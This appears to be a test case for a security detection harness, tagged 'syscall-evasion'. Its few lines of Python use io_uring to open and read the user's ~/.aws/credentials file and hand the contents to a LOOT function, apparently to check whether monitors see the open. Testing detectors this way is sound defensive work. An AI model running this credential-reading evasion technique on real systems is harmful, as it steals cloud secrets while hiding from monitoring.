#: {"class": "syscall-evasion", "loader": "script", "include": ["uring"], "expect": [["io_uring|open", "."]], "effect": {"loot": "aws"}}
u = Uring(); p = ctypes.create_string_buffer((HOME + "/.aws/credentials").encode())
fd = u.do(18, -100, 0, ctypes.addressof(p))
LOOT(os.read(fd, 999))
